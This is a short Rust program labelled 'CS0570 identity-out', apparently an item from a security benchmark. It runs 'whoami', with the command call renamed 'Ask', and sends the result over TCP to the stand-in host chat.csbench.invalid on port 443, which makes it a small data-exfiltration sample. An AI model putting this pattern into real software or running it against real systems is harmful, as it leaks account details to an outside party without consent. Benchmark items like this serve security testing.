//! CS0570 identity-out
use std::io::Write;
use std::net::TcpStream;
use std::process::Command as Ask;

fn main() {
    let who = Ask::new("whoami").output().unwrap().stdout;
    let mut stream = TcpStream::connect("chat.csbench.invalid:443").unwrap();
    stream.write_all(&who).unwrap();
}
